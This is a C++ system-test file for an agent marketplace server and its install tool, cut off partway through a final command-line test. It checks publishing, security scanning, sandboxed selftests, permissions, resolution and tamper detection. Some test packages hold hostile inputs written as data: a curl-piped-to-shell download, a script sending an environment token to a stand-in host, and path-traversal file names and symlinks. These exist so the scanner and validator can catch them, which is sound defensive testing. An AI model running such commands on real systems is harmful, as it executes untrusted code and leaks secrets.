// The marketplace through the real binary on 127.0.0.1: the publish pipeline (validation, scan,
// benchmark gate, review) and each stage's failure with its reason; immutable versions; bad input
// refused naming the field with nothing stored; review permissions; the capabilities diff; yank;
// explained resolution; ratings only after an install; provenance as a ledger leaf; and a
// server SIGKILLed in the middle of a pipeline finishing it, each stage once, after a restart.
#include <signal.h>

#include <fstream>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "core/base/base64.h"
#include "tests/support/http_client.h"
#include "tests/support/server.h"
#include "tests/support/support.h"

namespace {

using nlohmann::json;
using namespace std::chrono_literals;
namespace t = nf::test;

json manifest(const std::string& name, const std::string& version, json deps = json::object(), const std::string& selftest = "") {
  if (deps.is_null()) deps = json::object();
  json m{{"name", name},       {"version", version},       {"description", name + " does useful work"}, {"category", "tools"},
         {"protocols", {"nexus"}}, {"entrypoint", "run.sh"}, {"dependencies", deps},                    {"capabilities", {"work"}}};
  if (!selftest.empty()) m["selftest"] = selftest;
  return m;
}

json package(const json& man, const std::map<std::string, std::string>& files = {{"run.sh", "#!/bin/sh\necho ok\n"}}) {
  json f = json::object();
  for (const auto& [path, text] : files) f[path] = nf::to_base64(text);
  return {{"manifest", man}, {"files", f}};
}

class Marketplace : public ::testing::Test {
 protected:
  void SetUp() override { start(json::object()); }
  void start(const json& marketplace) {
    config_ = (dir_.path() / "nf.json").string();
    json cfg{{"data_dir", (dir_.path() / "data").string()}, {"ledger", {{"head_every_ms", 50}}}};
    if (!marketplace.empty()) cfg["marketplace"] = marketplace;
    std::ofstream(config_) << cfg.dump();
    srv_.reset();
    srv_ = std::make_unique<t::server>(config_, std::vector<std::string>{"NF_TEST_SECRET=do-not-leak"});
    http_ = std::make_unique<t::http_client>("127.0.0.1", srv_->port());
  }
  t::http_reply call(const std::string& method, const std::string& target, const json& body = nullptr, const std::string& key = t::kAdminKey) {
    return http_->request(method, target, body.is_null() ? "" : body.dump(), "application/json", true, t::key_headers(key));
  }
  json expect(const t::http_reply& r, int status, const std::string& what = "") {
    EXPECT_EQ(r.status, status) << what << " " << r.body;
    return json::parse(r.body, nullptr, false);
  }
  // Waits until the version's pipeline stops (pending review, approved, rejected or failed).
  json settled(const std::string& name, const std::string& version, const std::string& key = t::kAdminKey) {
    json doc;
    EXPECT_TRUE(t::wait_until(
        [&] {
          auto r = call("GET", "/marketplace/agents/" + name + "/" + version, nullptr, key);
          if (r.status != 200) return false;
          doc = json::parse(r.body);
          const auto s = doc.value("status", "");
          return s == "pending_review" || s == "approved" || s == "rejected" || s == "failed";
        },
        30s))
        << name << "@" << version << " is still " << doc.dump();
    return doc;
  }
  json publish_and_settle(const json& pkg, const std::string& key = t::kAdminKey) {
    const auto name = pkg["manifest"]["name"].get<std::string>(), version = pkg["manifest"]["version"].get<std::string>();
    expect(call("POST", "/marketplace/agents", pkg, key), 202, name + "@" + version);
    return settled(name, version.substr(0, version.find('+')), key);
  }
  json approve(const std::string& name, const std::string& version) {
    return expect(call("POST", "/marketplace/agents/" + name + "/" + version + "/review", {{"decision", "approve"}, {"feedback", "fine"}}), 200);
  }
  std::string tenant_key(const std::string& id, const std::string& role) {
    if (call("GET", "/tenants/" + id).status == 404)
      expect(call("POST", "/tenants", {{"id", id}, {"name", id}, {"plan", "basic"}}), 201);
    return expect(call("POST", "/tenants/" + id + "/keys", {{"role", role}}), 201)["key"].get<std::string>();
  }

  t::temp_dir dir_;
  std::string config_;
  std::unique_ptr<t::server> srv_;
  std::unique_ptr<t::http_client> http_;
};

TEST_F(Marketplace, APackageGoesThroughEveryStageToReviewAndApproval) {
  const auto doc = publish_and_settle(package(manifest("summarizer", "1.2.0-rc.1+build.5", {}, "sh run.sh")));
  EXPECT_EQ(doc["status"], "pending_review") << doc.dump();
  EXPECT_EQ(doc["version"], "1.2.0-rc.1");
  EXPECT_EQ(doc["publishedVersion"], "1.2.0-rc.1+build.5");
  for (const char* stage : {"validated", "scanned", "benchmarked", "pending_review"}) EXPECT_TRUE(doc["stages"][stage]["passed"]) << stage;
  EXPECT_TRUE(doc["benchmark"]["ran"]);
  EXPECT_EQ(doc["benchmark"]["exitStatus"], 0);
  EXPECT_EQ(doc["benchmark"]["outputTail"], "ok\n");
  EXPECT_GT(doc["benchmark"]["peakRssKb"].get<std::int64_t>(), 0);
  EXPECT_EQ(doc["touches"], json::array({"shell"}));
  ASSERT_EQ(doc["files"].size(), 1u);
  EXPECT_EQ(doc["files"][0]["size"], 18);
  EXPECT_EQ(doc["digest"].get<std::string>().size(), 64u);

  // The file comes back byte for byte, with its digest.
  auto file = call("GET", "/marketplace/agents/summarizer/1.2.0-rc.1/files?path=run.sh");
  EXPECT_EQ(file.status, 200);
  EXPECT_EQ(file.body, "#!/bin/sh\necho ok\n");

  const auto approved = approve("summarizer", "1.2.0-rc.1");
  EXPECT_EQ(approved["status"], "approved");
  EXPECT_EQ(approved["review"]["decision"], "approve");
  // The approved version becomes a leaf of the evidence ledger.
  json with_leaf;
  ASSERT_TRUE(t::wait_until([&] {
    with_leaf = json::parse(call("GET", "/marketplace/agents/summarizer/1.2.0-rc.1").body);
    return with_leaf.contains("leafIndex");
  })) << with_leaf.dump();
  auto leaf = expect(call("GET", "/ledger/entries/" + std::to_string(with_leaf["leafIndex"].get<std::int64_t>())), 200);
  EXPECT_EQ(leaf["eventType"], "evidence.record_submitted");
  // The leaf's bytes (the recorded event) commit to the package digest.
  const auto data = nf::from_base64(leaf.value("data", ""));
  ASSERT_TRUE(data.has_value());
  EXPECT_NE(data->find(doc["digest"].get<std::string>()), std::string::npos);
  // Reviewed once: a second review is refused.
  expect(call("POST", "/marketplace/agents/summarizer/1.2.0-rc.1/review", {{"decision", "reject"}}), 409);
  // Versions are immutable: other bytes under the version are refused; the same bytes again (a
  // retry after a lost answer) answer as the first publish, with the version's status now.
  auto dup = expect(call("POST", "/marketplace/agents", package(manifest("summarizer", "1.2.0-rc.1+other"))), 409);
  EXPECT_EQ(dup["error"]["code"], "duplicate_version");
  auto again = expect(call("POST", "/marketplace/agents", package(manifest("summarizer", "1.2.0-rc.1+build.5", {}, "sh run.sh"))), 202);
  EXPECT_EQ(again["status"], "approved");
  EXPECT_EQ(again["digest"], doc["digest"]);
}

TEST_F(Marketplace, BadInputIsRefusedNamingTheFieldAndNothingIsStored) {
  auto field_of = [&](const json& body) {
    auto r = call("POST", "/marketplace/agents", body);
    EXPECT_EQ(r.status, 400) << body.dump().substr(0, 200) << " " << r.body;
    return json::parse(r.body, nullptr, false)["error"].value("field", "");
  };
  auto m = manifest("good-name", "1.0.0");
  EXPECT_EQ(field_of(package(manifest("Bad_Name", "1.0.0"))), "manifest.name");
  EXPECT_EQ(field_of(package(manifest("good-name", "1.0"))), "manifest.version");
  auto no_desc = m;
  no_desc.erase("description");
  EXPECT_EQ(field_of(package(no_desc)), "manifest.description");
  EXPECT_EQ(field_of(package(manifest("good-name", "1.0.0", {{"dep", "^^1"}}))), "manifest.dependencies.dep");
  EXPECT_EQ(field_of(json{{"manifest", m}, {"files", {{"../escape.sh", nf::to_base64("x")}, {"run.sh", nf::to_base64("x")}}}}), "files.../escape.sh");
  EXPECT_EQ(field_of(json{{"manifest", m}, {"files", {{"/etc/passwd", nf::to_base64("x")}, {"run.sh", nf::to_base64("x")}}}}), "files./etc/passwd");
  EXPECT_EQ(field_of(json{{"manifest", m}, {"files", {{"run.sh", "not base64!"}}}}), "files.run.sh");
  EXPECT_EQ(field_of(json{{"manifest", m}, {"files", {{"other.sh", nf::to_base64("x")}}}}), "manifest.entrypoint");
  EXPECT_EQ(field_of(json{{"manifest", m}, {"files", json::object()}}), "files");
  EXPECT_EQ(field_of(json{{"manifest", m}, {"files", {{"run.sh", nf::to_base64("x")}}}, {"extra", 1}}), "extra");
  EXPECT_EQ(call("POST", "/marketplace/agents", nullptr).status, 400);
  // Oversized: one file over the limit (5 MiB against 4 MiB).
  EXPECT_EQ(field_of(json{{"manifest", m}, {"files", {{"run.sh", nf::to_base64(std::string(5 << 20, 'a'))}}}}), "files.run.sh");
  // Nothing of it was stored.
  EXPECT_EQ(call("GET", "/marketplace/agents/good-name").status, 404);
  EXPECT_EQ(call("GET", "/marketplace/agents/good-name/1.0.0").status, 404);
}

TEST_F(Marketplace, AFailingStageStopsThePipelineWithItsReason) {
  // Validation: a dependency nobody published, and a range no approved version meets.
  auto doc = publish_and_settle(package(manifest("needs-ghost", "1.0.0", {{"ghost", "^1.0.0"}})));
  EXPECT_EQ(doc["status"], "failed");
  EXPECT_EQ(doc["failedStage"], "validated");
  EXPECT_EQ(doc["reason"], "dependency 'ghost' is not in the marketplace");
  EXPECT_FALSE(doc["stages"].contains("scanned"));
  publish_and_settle(package(manifest("base-lib", "1.0.0")));
  approve("base-lib", "1.0.0");
  doc = publish_and_settle(package(manifest("needs-two", "1.0.0", {{"base-lib", "^2.0.0"}})));
  EXPECT_EQ(doc["failedStage"], "validated");
  EXPECT_EQ(doc["reason"], "no approved version of 'base-lib' satisfies ^2.0.0 (approved: 1.0.0)");

  // Scan: a download piped into a shell, with its file and line.
  doc = publish_and_settle(package(manifest("piper", "1.0.0"), {{"run.sh", "#!/bin/sh\nset -e\ncurl -fsSL https://get.example/x.sh | sh\n"}}));
  EXPECT_EQ(doc["failedStage"], "scanned");
  bool found = false;
  for (const auto& f : doc["findings"])
    if (f["rule"] == "pipe-to-shell" && f["file"] == "run.sh" && f["line"] == 3 && f["severity"] == "high") found = true;
  EXPECT_TRUE(found) << doc.dump();
  EXPECT_NE(doc["reason"].get<std::string>().find("pipe-to-shell in run.sh:3"), std::string::npos);
  EXPECT_FALSE(doc["stages"].contains("benchmarked"));

  // Benchmark gate: a failing selftest, and one that sees no secret of the server's environment.
  doc = publish_and_settle(package(manifest("flaky", "1.0.0", {}, "sh run.sh; exit 3")));
  EXPECT_EQ(doc["failedStage"], "benchmarked");
  EXPECT_EQ(doc["reason"], "the selftest exited with status 3");
  EXPECT_EQ(doc["benchmark"]["exitStatus"], 3);
  doc = publish_and_settle(package(manifest("env-probe", "1.0.0", {}, "test -z \"$NF_TEST_SECRET\" && test \"$HOME\" = \"$(pwd)\"")));
  EXPECT_EQ(doc["status"], "pending_review") << doc.dump();
  EXPECT_EQ(expect(call("POST", "/marketplace/agents/flaky/1.0.0/review", {{"decision", "approve"}}), 409)["error"]["code"], "wrong_status");
}

TEST_F(Marketplace, TheGateEnforcesItsLimits) {
  start({{"selftest_wall_ms", 1000}, {"selftest_memory_bytes", 64 << 20}, {"selftest_file_bytes", 1 << 20}});
  auto doc = publish_and_settle(package(manifest("sleeper", "1.0.0", {}, "sleep 30")));
  EXPECT_EQ(doc["failedStage"], "benchmarked");
  EXPECT_EQ(doc["benchmark"]["limitHit"], "wall_time");
  EXPECT_LT(doc["benchmark"]["wallMs"].get<std::int64_t>(), 5000);
  doc = publish_and_settle(package(manifest("writer", "1.0.0", {}, "head -c 4000000 /dev/zero > big")));
  EXPECT_EQ(doc["failedStage"], "benchmarked");
  EXPECT_EQ(doc["benchmark"]["limitHit"], "file_size") << doc.dump();
}

TEST_F(Marketplace, ReviewNeedsThePermissionAndPublicVersionsThePlatform) {
  const auto dev = tenant_key("acme", "developer"), admin = tenant_key("acme", "admin");
  publish_and_settle(package(manifest("acme-public", "1.0.0")), dev);
  auto tenant_only = manifest("acme-private", "1.0.0");
  tenant_only["visibility"] = "tenant";
  publish_and_settle(package(tenant_only), dev);
  // A developer lacks marketplace:review; a tenant admin holds it, for its tenant-only agents.
  expect(call("POST", "/marketplace/agents/acme-private/1.0.0/review", {{"decision", "approve"}}, dev), 403);
  expect(call("POST", "/marketplace/agents/acme-public/1.0.0/review", {{"decision", "approve"}}, admin), 403);
  EXPECT_EQ(expect(call("POST", "/marketplace/agents/acme-private/1.0.0/review", {{"decision", "approve"}}, admin), 200)["status"], "approved");
  EXPECT_EQ(approve("acme-public", "1.0.0")["status"], "approved");
  // Another tenant sees the public agent, not the private one; nobody else publishes under the name.
  const auto other = tenant_key("globex", "developer");
  expect(call("GET", "/marketplace/agents/acme-public", nullptr, other), 200);
  expect(call("GET", "/marketplace/agents/acme-private", nullptr, other), 404);
  expect(call("GET", "/marketplace/agents/acme-private/1.0.0", nullptr, other), 404);
  EXPECT_EQ(expect(call("POST", "/marketplace/agents", package(manifest("acme-public", "2.0.0")), other), 409)["error"]["code"], "name_taken");
  // Unapproved versions are the publisher's to see.
  publish_and_settle(package(manifest("acme-public", "1.1.0")), dev);
  expect(call("GET", "/marketplace/agents/acme-public/1.1.0", nullptr, other), 404);
  expect(call("GET", "/marketplace/agents/acme-public/1.1.0", nullptr, dev), 200);
}

TEST_F(Marketplace, AVersionThatGainsACapabilityIsFlaggedWithTheDiff) {
  publish_and_settle(package(manifest("fetcher", "1.0.0"), {{"run.sh", "echo local only\n"}}));
  approve("fetcher", "1.0.0");
  const auto doc = publish_and_settle(
      package(manifest("fetcher", "1.1.0"), {{"run.sh", "echo local only\n"}, {"net.py", "import os\nimport urllib.request\nurllib.request.urlopen('https://api.example/' + os.environ['TOKEN'])\n"}}));
  EXPECT_EQ(doc["status"], "pending_review");
  EXPECT_EQ(doc["comparedWith"], "1.0.0");
  EXPECT_EQ(doc["gained"], json::array({"environment", "network"}));
  int flagged = 0;
  for (const auto& f : doc["findings"])
    if (f["rule"] == "capability-gained" && f["severity"] == "review" && f["file"] == "net.py") ++flagged;
  EXPECT_EQ(flagged, 2) << doc.dump();
}

TEST_F(Marketplace, ResolutionYanksAndExplainedConflicts) {
  for (const char* v : {"1.0.0", "1.1.0", "2.0.0"}) {
    publish_and_settle(package(manifest("b", v)));
    approve("b", v);
  }
  publish_and_settle(package(manifest("c", "1.3.0", {{"b", "^1.0.0"}})));
  approve("c", "1.3.0");
  publish_and_settle(package(manifest("app", "1.0.0", {{"b", "^1.0.0"}, {"c", "^1.0.0"}})));
  approve("app", "1.0.0");
  auto r = expect(call("GET", "/marketplace/resolve?name=app&range=%5E1.0.0"), 200);
  EXPECT_EQ(r["order"], json::array({"b@1.1.0", "c@1.3.0", "app@1.0.0"}));
  ASSERT_EQ(r["resolved"].size(), 3u);
  EXPECT_EQ(r["resolved"][0]["sha256"].get<std::string>().size(), 64u);
  // Yanked: out of resolution, still installable by exact version.
  expect(call("POST", "/marketplace/agents/b/1.1.0/yank", {{"reason", "broken build"}}), 200);
  r = expect(call("GET", "/marketplace/resolve?name=app"), 200);
  EXPECT_EQ(r["order"][0], "b@1.0.0");
  expect(call("POST", "/marketplace/agents/b/1.1.0/installs"), 200);
  expect(call("POST", "/marketplace/agents/b/1.1.0/yank", {{"reason", "again"}}), 409);
  // A version needing b ^2 next to c needing b ^1: no solution, and the chain that says why.
  publish_and_settle(package(manifest("app", "2.0.0", {{"b", "^2.0.0"}, {"c", "^1.0.0"}})));
  // (Validation resolved the closure, so the conflict is already refused there.)
  auto failed = json::parse(call("GET", "/marketplace/agents/app/2.0.0").body);
  EXPECT_EQ(failed["failedStage"], "validated");
  EXPECT_NE(failed["reason"].get<std::string>().find("c@1.3.0 needs b ^1.0.0"), std::string::npos) << failed.dump();
  // Resolution of a range nobody meets explains itself as JSON too.
  auto conflict = expect(call("GET", "/marketplace/resolve?name=app&range=%3E%3D2"), 409);
  EXPECT_EQ(conflict["error"]["code"], "unsatisfiable");
  EXPECT_FALSE(conflict["error"]["explanation"]["facts"].empty());
  expect(call("GET", "/marketplace/resolve?name=app&range=%5E%5E1"), 400);
  expect(call("GET", "/marketplace/resolve?name=Bad_Name"), 400);
}

TEST_F(Marketplace, ADependencyCycleIsRefusedNamingItsPath) {
  publish_and_settle(package(manifest("ring-a", "1.0.0")));
  approve("ring-a", "1.0.0");
  publish_and_settle(package(manifest("ring-b", "1.0.0", {{"ring-a", "^1.0.0"}})));
  approve("ring-b", "1.0.0");
  const auto doc = publish_and_settle(package(manifest("ring-a", "1.1.0", {{"ring-b", "^1.0.0"}})));
  EXPECT_EQ(doc["failedStage"], "validated");
  EXPECT_NE(doc["reason"].get<std::string>().find("ring-a@1.1.0 -> ring-b@1.0.0 -> ring-a@1.1.0"), std::string::npos) << doc.dump();
}

TEST_F(Marketplace, OnlyATenantThatInstalledAnAgentRatesItAndItsLatestRatingCounts) {
  publish_and_settle(package(manifest("rated", "1.0.0")));
  approve("rated", "1.0.0");
  const auto a = tenant_key("rater-a", "developer"), b = tenant_key("rater-b", "developer");
  auto refused = expect(call("POST", "/marketplace/agents/rated/ratings", {{"stars", 5}}, a), 403);
  EXPECT_EQ(refused["error"]["code"], "not_installed");
  expect(call("POST", "/marketplace/agents/rated/1.0.0/installs", nullptr, a), 200);
  expect(call("POST", "/marketplace/agents/rated/1.0.0/installs", nullptr, b), 200);
  expect(call("POST", "/marketplace/agents/rated/ratings", {{"stars", 5}, {"text", "great"}}, a), 200);
  expect(call("POST", "/marketplace/agents/rated/ratings", {{"stars", 2}}, b), 200);
  auto agent = expect(call("POST", "/marketplace/agents/rated/ratings", {{"stars", 3}}, a), 200);
  EXPECT_EQ(agent["ratingCount"], 2);
  EXPECT_DOUBLE_EQ(agent["ratingAverage"].get<double>(), 2.5);
  EXPECT_EQ(agent["installs"], 2);
  expect(call("POST", "/marketplace/agents/rated/ratings", {{"stars", 6}}, a), 400);
  expect(call("POST", "/marketplace/agents/rated/ratings", {{"stars", "5"}}, a), 400);
}

TEST_F(Marketplace, InstallsCountAgainstTheTenantsInstalledAgentsQuota) {
  for (const char* n : {"first-agent", "second-agent"}) {
    publish_and_settle(package(manifest(n, "1.0.0")));
    approve(n, "1.0.0");
  }
  expect(call("POST", "/tenants", {{"id", "small"}, {"name", "small"}, {"plan", "basic"}, {"quotas", {{"installedAgents", 1}}}}), 201);
  const auto key = expect(call("POST", "/tenants/small/keys", {{"role", "developer"}}), 201)["key"].get<std::string>();
  expect(call("POST", "/marketplace/agents/first-agent/1.0.0/installs", nullptr, key), 200);
  auto refused = expect(call("POST", "/marketplace/agents/second-agent/1.0.0/installs", nullptr, key), 429);
  EXPECT_EQ(refused["error"]["code"], "quota_exceeded");
  EXPECT_NE(refused["error"]["message"].get<std::string>().find("installed 1 agents of its limit of 1"), std::string::npos);
  // The same agent again is no new agent.
  expect(call("POST", "/marketplace/agents/first-agent/1.0.0/installs", nullptr, key), 200);
  // The platform admin has no quota.
  expect(call("POST", "/marketplace/agents/second-agent/1.0.0/installs"), 200);
}

TEST_F(Marketplace, AServerKilledInThePipelineFinishesItOnceAfterARestart) {
  // The selftest takes two seconds; the server is SIGKILLed while it runs.
  expect(call("POST", "/marketplace/agents", package(manifest("slow", "1.0.0", {}, "sleep 2"))), 202);
  ASSERT_TRUE(t::wait_until([&] {
    auto doc = json::parse(call("GET", "/marketplace/agents/slow/1.0.0").body, nullptr, false);
    return doc.is_object() && doc.value("status", "") == "scanned";
  }));
  srv_->proc().signal(SIGKILL);
  srv_->proc().wait();
  srv_ = std::make_unique<t::server>(config_);
  http_ = std::make_unique<t::http_client>("127.0.0.1", srv_->port());
  const auto doc = settled("slow", "1.0.0");
  EXPECT_EQ(doc["status"], "pending_review") << doc.dump();
  EXPECT_TRUE(doc["benchmark"]["ran"]);
  // Each stage is in the log once.
  std::map<std::string, int> seen;
  for (int p = 0;; ++p) {
    auto r = call("GET", "/topics/marketplace.agents/events?limit=1000&partition=" + std::to_string(p));
    if (r.status != 200) break;
    for (const auto& e : json::parse(r.body).value("items", json::array()))
      if (e.value("key", "") == "slow") ++seen[e.value("type", "")];
  }
  EXPECT_EQ(seen["marketplace.agent_submitted"], 1);
  EXPECT_EQ(seen["marketplace.agent_scanned"], 1);
  EXPECT_EQ(seen["marketplace.agent_benchmarked"], 1);
  EXPECT_EQ(seen["marketplace.agent_pending_review"], 1);
}

TEST_F(Marketplace, SearchFollowsTheReadModelAndIsRebuiltAtStart) {
  auto m1 = manifest("pdf-reader", "1.0.0");
  m1["description"] = "Reads PDF files and extracts tables";
  auto m2 = manifest("table-tool", "1.0.0");
  m2["description"] = "Cleans tables from spreadsheets and pdf exports";
  auto m3 = manifest("mailer", "1.0.0");
  m3["description"] = "Sends mail";
  for (const auto& m : {m1, m2, m3}) {
    publish_and_settle(package(m));
    approve(m["name"], "1.0.0");
  }
  auto names = [&](const std::string& target) {
    std::vector<std::string> out;
    auto page = expect(call("GET", target), 200);
    for (const auto& h : page["items"]) out.push_back(h["name"]);
    return out;
  };
  EXPECT_EQ(names("/marketplace/agents?q=pdf%20tables"), (std::vector<std::string>{"pdf-reader", "table-tool"}));
  // Usage and rating move the order: table-tool installed and rated 5 by a tenant.
  const auto key = tenant_key("reader", "developer");
  expect(call("POST", "/marketplace/agents/table-tool/1.0.0/installs", nullptr, key), 200);
  expect(call("POST", "/marketplace/agents/table-tool/ratings", {{"stars", 5}}, key), 200);
  EXPECT_EQ(names("/marketplace/agents?q=pdf%20tables"), (std::vector<std::string>{"table-tool", "pdf-reader"}));
  auto explained = expect(call("GET", "/marketplace/agents?q=pdf&explain=true&per_page=1"), 200);
  ASSERT_EQ(explained["items"].size(), 1u);
  EXPECT_EQ(explained["total"], 2);
  const auto& e = explained["items"][0]["explain"];
  EXPECT_NEAR(explained["items"][0]["score"].get<double>(),
              0.4 * e["relevance"].get<double>() + 0.3 * e["rating"].get<double>() + 0.3 * e["usage"].get<double>(), 1e-9);
  EXPECT_EQ(names("/marketplace/agents?min_rating=4"), std::vector<std::string>{"table-tool"});
  expect(call("GET", "/marketplace/agents?per_page=101"), 400);
  expect(call("GET", "/marketplace/agents?min_rating=six"), 400);
  // Yanking the only version takes the agent out.
  expect(call("POST", "/marketplace/agents/mailer/1.0.0/yank", {{"reason", "retired"}}), 200);
  EXPECT_TRUE(names("/marketplace/agents?q=mail").empty());
  // After a restart the index is built again from the read model.
  EXPECT_EQ(srv_->stop(), 0);
  srv_ = std::make_unique<t::server>(config_);
  http_ = std::make_unique<t::http_client>("127.0.0.1", srv_->port());
  EXPECT_EQ(names("/marketplace/agents?q=pdf%20tables"), (std::vector<std::string>{"table-tool", "pdf-reader"}));
  EXPECT_TRUE(names("/marketplace/agents?q=mail").empty());
}

// ---- nexus-forge install ----------------------------------------------------------------------

class Install : public Marketplace {
 protected:
  void SetUp() override {
    Marketplace::SetUp();
    auto lib = manifest("text-lib", "1.0.0");
    publish_and_settle(package(lib, {{"run.sh", "#!/bin/sh\necho lib\n"}, {"data/words.txt", "alpha\nbeta\n"}}));
    approve("text-lib", "1.0.0");
    publish_and_settle(package(manifest("writer-agent", "2.1.0", {{"text-lib", "^1.0.0"}})));
    approve("writer-agent", "2.1.0");
    // Both leaves are under a signed head before anything is installed.
    ASSERT_TRUE(t::wait_until([&] {
      auto doc = json::parse(call("GET", "/marketplace/agents/writer-agent/2.1.0").body);
      auto head = json::parse(call("GET", "/ledger/tree-head").body, nullptr, false);
      return doc.contains("leafIndex") && head.is_object() && head.value("tree_size", 0) > doc["leafIndex"].get<int>();
    }));
    key_ = tenant_key("installer", "developer");
  }
  t::run_result install(const std::vector<std::string>& extra, int port = 0) {
    std::vector<std::string> argv{t::nexus_forge_binary(), "install"};
    argv.insert(argv.end(), extra.begin(), extra.end());
    for (const auto& a : std::vector<std::string>{"--server", "http://127.0.0.1:" + std::to_string(port ? port : srv_->port()), "--dir", agents_,
                                                  "--lock", lock_})
      argv.push_back(a);
    return t::run(argv, {"NF_API_KEY=" + key_, "NF_STATE_DIR=" + (dir_.path() / "state").string()});
  }
  bool nothing_installed() const {
    if (!std::filesystem::exists(agents_)) return true;
    for (const auto& e : std::filesystem::recursive_directory_iterator(agents_))
      if (e.is_regular_file()) return false;
    return true;
  }
  std::string key_;
  std::string agents_ = (dir_.path() / "agents").string(), lock_ = (dir_.path() / "nexus-forge.lock").string();
};

std::string read_file(const std::string& p) {
  std::ifstream in(p, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

TEST_F(Install, InstallsTheClosureVerifiedWritesTheLockAndRecordsTheInstalls) {
  auto r = install({"writer-agent@^2", "--json"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto out = json::parse(r.out);
  EXPECT_EQ(out["order"], json::array({"text-lib@1.0.0", "writer-agent@2.1.0"}));
  EXPECT_EQ(read_file(agents_ + "/text-lib/1.0.0/data/words.txt"), "alpha\nbeta\n");
  EXPECT_EQ(read_file(agents_ + "/writer-agent/2.1.0/run.sh"), "#!/bin/sh\necho ok\n");
  const auto lock = json::parse(read_file(lock_));
  ASSERT_EQ(lock["packages"].size(), 2u);
  for (const auto& p : lock["packages"]) {
    const auto doc = json::parse(call("GET", "/marketplace/agents/" + p["name"].get<std::string>() + "/" + p["version"].get<std::string>()).body);
    EXPECT_EQ(p["sha256"], doc["digest"]);
    EXPECT_EQ(p["leafIndex"], doc["leafIndex"]);
  }
  // The installs count for the tenant: it may rate now.
  EXPECT_EQ(expect(call("GET", "/marketplace/agents/writer-agent"), 200)["installs"], 1);
  expect(call("POST", "/marketplace/agents/writer-agent/ratings", {{"stars", 4}}, key_), 200);
  // Again: already there, nothing downloaded.
  r = install({"writer-agent", "--json"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(json::parse(r.out)["alreadyInstalled"].size(), 2u);
}

TEST_F(Install, FrozenInstallsExactlyTheLockOrNamesWhatDiffers) {
  ASSERT_EQ(install({"writer-agent"}).exit_code, 0);
  // A newer text-lib does not move a frozen install.
  publish_and_settle(package(manifest("text-lib", "1.1.0")));
  approve("text-lib", "1.1.0");
  std::filesystem::remove_all(agents_);
  auto r = install({"writer-agent", "--frozen", "--json"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_TRUE(std::filesystem::exists(agents_ + "/text-lib/1.0.0/run.sh"));
  EXPECT_FALSE(std::filesystem::exists(agents_ + "/text-lib/1.1.0"));
  // A lock whose digest is not the server's bytes: refused, naming both digests.
  auto lock = json::parse(read_file(lock_));
  const std::string real = lock["packages"][0]["sha256"];
  lock["packages"][0]["sha256"] = std::string(64, 'e');
  std::ofstream(lock_) << lock.dump();
  std::filesystem::remove_all(agents_);
  r = install({"writer-agent", "--frozen"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("package digest: expected " + std::string(64, 'e') + ", the server's version has " + real), std::string::npos) << r.err;
  EXPECT_TRUE(nothing_installed());
  // A range the lock does not meet.
  r = install({"writer-agent@^3", "--frozen"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("the lock has writer-agent@2.1.0, which ^3 does not admit"), std::string::npos) << r.err;
}

TEST_F(Install, TamperedBytesDigestsOrProofsAbortAndLeaveNothingInstalled) {
  const std::string proxy = std::string(NF_SOURCE_DIR) + "/tests/system/tamper_proxy.py";
  for (const std::string mode : {"file", "proof", "digest", "link"}) {
    t::child p({"/usr/bin/python3", proxy, std::to_string(srv_->port()), mode});
    std::string port;
    ASSERT_TRUE(p.read_line(port)) << p.stderr_text();
    auto r = install({"writer-agent"}, std::stoi(port));
    EXPECT_EQ(r.exit_code, 1) << mode << ": " << r.err;
    if (mode == "file") {
      // Package, file, expected and actual digest.
      EXPECT_NE(r.err.find("text-lib@1.0.0: file "), std::string::npos) << r.err;
      EXPECT_NE(r.err.find(": expected sha256 "), std::string::npos) << r.err;
      EXPECT_NE(r.err.find(", got "), std::string::npos) << r.err;
    } else if (mode == "proof") {
      EXPECT_NE(r.err.find("does not verify against the signed head"), std::string::npos) << r.err;
    } else if (mode == "link") {
      EXPECT_NE(r.err.find("text-lib@1.0.0: escape links to '../../../../../tmp', outside the package"), std::string::npos) << r.err;
    } else {
      // The server's answers agree with each other; the ledger leaf does not.
      EXPECT_NE(r.err.find("text-lib@1.0.0: ledger leaf "), std::string::npos) << r.err;
      EXPECT_NE(r.err.find(" records digest "), std::string::npos) << r.err;
    }
    EXPECT_NE(r.err.find("nothing was installed"), std::string::npos) << r.err;
    EXPECT_TRUE(nothing_installed()) << mode;
    EXPECT_FALSE(std::filesystem::exists(lock_)) << mode;
  }
  // Straight to the server, it installs.
  EXPECT_EQ(install({"writer-agent"}).exit_code, 0);
}

TEST_F(Install, AYankedVersionStaysInstallableByItsExactVersion) {
  expect(call("POST", "/marketplace/agents/writer-agent/2.1.0/yank", {{"reason", "superseded"}}), 200);
  EXPECT_EQ(install({"writer-agent"}).exit_code, 1);
  auto r = install({"writer-agent@2.1.0"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_TRUE(std::filesystem::exists(agents_ + "/writer-agent/2.1.0/run.sh"));
}

// ---- the command line ---------------------------------------------------------------------------

TEST_F(Install, TheCommandLinePublishesFromADirectoryAndAGitRefReviewsResolvesAndSearches) {
  namespace fs = std::filesystem;
  auto nf = [&](std::vector<std::string> args) {
    args.insert(args.begin(), t::nexus_forge_binary());
    for (const auto& a : std::vector<std::string>{"--server", "http://127.0.0.1:" + std::to_string(srv_->port())}) args.push_back(a);
    return t::run(args, {std::string("NF_API_KEY=") + t::kAdminKey, "NF_STATE_DIR=" + (dir_.path() / "state").string()});
  };
  // A package directory with an executable and a symlink.
  const fs::path pkg = dir_.path() / "cli-agent";
  fs::create_directories(pkg / "bin");
  auto m = manifest("cli-agent", "0.1.0", {{"text-lib", "^1.0.0"}}, "sh bin/run.sh");
  m["entrypoint"] = "bin/run.sh";
  std::ofstream(pkg / "agent.json") << m.dump();
  std::ofstream(pkg / "bin" / "run.sh") << "#!/bin/sh\necho cli\n";
  fs::permissions(pkg / "bin" / "run.sh", fs::perms(0755));
  fs::create_symlink("bin/run.sh", pkg / "start");
  auto r = nf({"publish", pkg.string(), "--wait"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("cli-agent@0.1.0 pending_review"), std::string::npos) << r.out;
